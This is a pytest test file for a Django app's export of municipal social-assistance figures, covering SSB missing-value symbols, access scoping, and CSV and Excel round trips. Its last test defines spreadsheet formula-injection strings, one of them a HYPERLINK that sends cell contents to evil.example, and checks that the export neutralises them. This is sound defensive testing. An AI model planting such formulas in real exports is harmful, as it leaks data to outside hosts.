"""Exporting current values: SSB's symbols for cells without a number, scope, round trip."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.db import IntegrityError, transaction
from figure_people import People
from openpyxl import load_workbook

from malekort.domain.cells import DOTTED, EMPTY, Cell
from malekort.domain.files.values_file import ExportRow
from malekort.domain.periods import Period
from malekort.figures.actions import Entry, register_values
from malekort.figures.models import Source, ValueVersion
from malekort.figures.transfer import export_rows, import_values, write_csv, write_xlsx

pytestmark = pytest.mark.django_db




OSLO = ZoneInfo("Europe/Oslo")
NOW = datetime(2024, 6, 15, 12, 0, tzinfo=OSLO)
FIRST_SAVE = datetime(2024, 5, 2, 9, 30, tzinfo=OSLO)
MARCH, APRIL = Period(2024, 3), Period(2024, 4)
GRUNERLOKKA, FLA, GOL = "030102", "3320", "3324"
UPDATED = "2024-05-02T09:30:00+02:00"


@pytest.fixture
def values(people: People) -> None:
    """Grünerløkka has March and April; Flå and Gol in Hallingdal have March."""
    register_values(
        entries=[
            Entry(GRUNERLOKKA, MARCH, "SH_MOTTAKERE", Cell.of(40)),
            Entry(GRUNERLOKKA, MARCH, "SH_BARN", DOTTED),
            Entry(GRUNERLOKKA, MARCH, "SH_KRONER", Cell.of(250_000), "Inkluderer lån"),
            Entry(GRUNERLOKKA, MARCH, "KVP_DELTAKERE", Cell.of(5)),
            Entry(GRUNERLOKKA, APRIL, "SH_MOTTAKERE", Cell.of(44)),
            Entry(FLA, MARCH, "SH_MOTTAKERE", DOTTED),
            Entry(FLA, MARCH, "SH_KRONER", DOTTED),
            Entry(GOL, MARCH, "SH_MOTTAKERE", Cell.of(31)),
        ],
        user=None,
        source=Source.TYPED,
        now=FIRST_SAVE,
    )
    # Kvalifiseringsprogrammet in March turns out not to be known: an empty version.
    register_values(
        entries=[Entry(GRUNERLOKKA, MARCH, "KVP_DELTAKERE", EMPTY, "Arena-tall mangler")],
        user=None,
        source=Source.FILE,
        now=NOW,
    )


def test_every_current_value_with_ssb_symbols(values: None) -> None:
    rows = list(export_rows(user=None))

    assert rows == [
        ExportRow("2024-03", GRUNERLOKKA, "SH_MOTTAKERE", 40, "", "", "typed", UPDATED),
        ExportRow("2024-03", GRUNERLOKKA, "SH_BARN", None, "", ":", "typed", UPDATED),
        ExportRow(
            "2024-03", GRUNERLOKKA, "SH_KRONER", 250_000, "Inkluderer lån", "", "typed", UPDATED
        ),
        ExportRow(
            "2024-03",
            GRUNERLOKKA,
            "KVP_DELTAKERE",
            None,
            "Arena-tall mangler",
            "..",
            "file",
            "2024-06-15T12:00:00+02:00",
        ),
        ExportRow("2024-03", FLA, "SH_MOTTAKERE", None, "", ":", "typed", UPDATED),
        ExportRow("2024-03", FLA, "SH_KRONER", None, "", ":", "typed", UPDATED),
        ExportRow("2024-03", GOL, "SH_MOTTAKERE", 31, "", "", "typed", UPDATED),
        ExportRow("2024-04", GRUNERLOKKA, "SH_MOTTAKERE", 44, "", "", "typed", UPDATED),
    ]


def test_a_count_of_1_to_3_cannot_get_in_and_never_leaves(values: None) -> None:
    # Not possible through register_values, and the database refuses it too (issue 9, finding 2).
    with pytest.raises(IntegrityError), transaction.atomic():
        ValueVersion.objects.create(
            area_id=GOL,
            period=MARCH.first_day,
            figure_id="SH_BARN",
            kind="number",
            number=2,
            source=Source.API,
            recorded_at=NOW,
        )
    assert all(
        row.value is None or not 1 <= row.value <= 3
        for row in export_rows(user=None)
        if row.code != "SH_KRONER"
    )


def test_a_leader_exports_only_the_offices_areas(values: None, people: People) -> None:
    assert {row.area for row in export_rows(user=people.alice)} == {GRUNERLOKKA}
    assert {row.area for row in export_rows(user=people.hallvard)} == {FLA, GOL}
    assert {row.area for row in export_rows(user=people.olga)} == {GRUNERLOKKA}  # Oslo kommune
    assert {row.area for row in export_rows(user=people.agnes)} == set()  # Agder


def test_months_areas_and_figures_narrow_the_export(values: None) -> None:
    april = export_rows(user=None, first=APRIL, last=APRIL)
    assert [(r.period, r.area) for r in april] == [("2024-04", GRUNERLOKKA)]
    # An area includes the areas within it: 0301 Oslo gives its bydeler.
    oslo = export_rows(user=None, area_codes=["0301"], figure_codes=["SH_MOTTAKERE"])
    assert [(r.period, r.value) for r in oslo] == [("2024-03", 40), ("2024-04", 44)]


def test_an_export_imports_back_unchanged_as_csv_and_excel(values: None) -> None:
    text = io.StringIO()
    assert write_csv(export_rows(user=None), text) == 8
    binary = io.BytesIO()
    assert write_xlsx(export_rows(user=None), binary) == 8

    for data, name in (
        (text.getvalue().encode("utf-8"), "eksport.csv"),
        (binary.getvalue(), "eksport.xlsx"),
    ):
        report = import_values(
            path_or_file=io.BytesIO(data),
            filename=name,
            user=None,
            valid_only=False,
            dry_run=False,
            now=NOW,
        )
        assert report.refused == []
        assert report.unchanged == list(range(2, 10))
        assert report.created == [] and report.updated == []
    assert ValueVersion.objects.filter(superseded_at__isnull=True).count() == 8


def test_the_command_writes_csv_to_stdout(values: None) -> None:
    out = io.StringIO()
    call_command("export-values", "--from", "2024-03", "--to", "2024-03", "--area", FLA, stdout=out)

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["period", "area", "code", "value", "comment", "status", "source", "updated_at"],
        ["2024-03", FLA, "SH_MOTTAKERE", "", "", ":", "typed", UPDATED],
        ["2024-03", FLA, "SH_KRONER", "", "", ":", "typed", UPDATED],
    ]


def test_the_command_writes_excel_as_a_user(values: None, tmp_path: Path) -> None:
    path = tmp_path / "tall.xlsx"
    call_command("export-values", "--output", str(path), "--as-user", "alice", stderr=io.StringIO())

    rows = list(load_workbook(path).worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 1 + 5
    assert {row[1] for row in rows[1:]} == {GRUNERLOKKA}
    assert rows[1][:4] == ("2024-03", GRUNERLOKKA, "SH_MOTTAKERE", 40)


HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)")


def test_the_command_neutralises_formulas_in_comments(values: None) -> None:
    register_values(
        entries=[
            Entry(GOL, APRIL, code, Cell.of(50), comment)
            for code, comment in zip(("SH_MOTTAKERE", "SH_BARN", "SH_HOVEDKILDE", "SH_UNDER30"), HOSTILE, strict=True)
        ],
        user=None,
        source=Source.TYPED,
        now=NOW,
    )
    out = io.StringIO()
    call_command("export-values", "--from", "2024-04", "--to", "2024-04", "--area", GOL, stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["comment"] for row in rows] == ["'" + text for text in HOSTILE]
    assert [row["value"] for row in rows] == ["50"] * 4
    # Read back, the comments are what was typed: nothing changes.
    report = import_values(
        path_or_file=io.BytesIO(out.getvalue().encode()), filename="eksport.csv", user=None,
        valid_only=False, dry_run=True, now=NOW,
    )
    assert (report.refused, len(report.unchanged)) == ([], 4)
